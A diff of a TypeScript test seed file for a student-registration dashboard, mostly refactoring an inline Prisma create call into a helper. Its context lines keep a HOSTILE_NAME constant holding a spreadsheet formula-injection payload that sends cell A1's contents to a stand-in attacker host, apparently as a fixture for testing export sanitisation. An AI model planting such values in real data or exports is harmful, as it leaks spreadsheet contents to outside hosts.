@@ -29,6 +29,7 @@ import type { Prisma } from '@prisma/client';
 import type { PrismaClient } from '../../src/db/prisma';
 import { defaultCohortPolicy } from '../../workflows/registration/api';
 import { seedOutstandingCounts } from '../kit/outstanding-counts';
+import { createRegistration } from './registration-row';
 
 export const DASHBOARD_NOW = new Date('2027-08-18T04:00:00.000Z');
 export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
@@ -182,44 +183,40 @@ export async function seedDashboardCohort(prisma: PrismaClient, cohortId: string
   ];
   for (const [i, s] of students.entries()) {
     const applicationNo = no[i]!;
-    await prisma.registration.create({
-      data: {
-        applicationNo,
-        workflowId: `registration-${applicationNo}`,
-        cohortId,
-        name: s.name,
-        personalEmail: `${applicationNo.toLowerCase()}@example.com`,
-        programCode: s.programCode,
-        studyLevel: s.studyLevel,
-        admissionRoute: s.admissionRoute,
-        residency: s.residency,
-        status: s.status,
-        outcomeReason: s.outcomeReason,
-        registrationDeadline,
-        paymentDeadline,
-        outstandingItems: s.items.filter((x) => x.state !== 'VERIFIED' && x.state !== 'WAIVED').map((x) => x.key),
-        cardReady: s.cardReady ?? false,
-        outcomeAt: s.outcomeAt ?? null,
-        compulsoryInAt: s.compulsoryInAt ?? null,
-        seq: 20,
-        createdAt: s.createdAt,
-        items: {
-          create: s.items.map((x) => ({
-            key: x.key,
-            kind: x.kind ?? x.key,
-            label: x.key,
-            compulsory: x.compulsory ?? compulsory.has(x.key),
-            state: x.state,
-            submittedAt: x.submittedAt ?? null,
-            reviewedAt: x.reviewedAt ?? null,
-            expectedVerificationBy: x.expectedVerificationBy ?? null,
-            // The registration's fields, as the projection copies them onto its items.
-            cohortId,
-            programCode: s.programCode,
-            studyLevel: s.studyLevel,
-            registrationStatus: s.status,
-          })),
-        },
+    await createRegistration(prisma, {
+      applicationNo,
+      cohortId,
+      name: s.name,
+      programCode: s.programCode,
+      studyLevel: s.studyLevel,
+      admissionRoute: s.admissionRoute,
+      residency: s.residency,
+      status: s.status,
+      outcomeReason: s.outcomeReason,
+      registrationDeadline,
+      paymentDeadline,
+      outstandingItems: s.items.filter((x) => x.state !== 'VERIFIED' && x.state !== 'WAIVED').map((x) => x.key),
+      cardReady: s.cardReady ?? false,
+      outcomeAt: s.outcomeAt ?? null,
+      compulsoryInAt: s.compulsoryInAt ?? null,
+      seq: 20,
+      createdAt: s.createdAt,
+      items: {
+        create: s.items.map((x) => ({
+          key: x.key,
+          kind: x.kind ?? x.key,
+          label: x.key,
+          compulsory: x.compulsory ?? compulsory.has(x.key),
+          state: x.state,
+          submittedAt: x.submittedAt ?? null,
+          reviewedAt: x.reviewedAt ?? null,
+          expectedVerificationBy: x.expectedVerificationBy ?? null,
+          // The registration's fields, as the projection copies them onto its items.
+          cohortId,
+          programCode: s.programCode,
+          studyLevel: s.studyLevel,
+          registrationStatus: s.status,
+        })),
       },
     });
   }
